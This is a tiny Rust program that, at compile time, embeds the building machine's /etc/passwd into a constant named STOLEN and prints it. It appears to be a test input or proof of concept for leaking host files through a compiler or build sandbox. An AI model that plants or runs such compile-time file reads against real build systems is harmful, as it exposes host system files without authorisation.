const STOLEN: &[u8] = include_bytes!("/etc/passwd");
fn main() {
    println!("{STOLEN:?}");
}
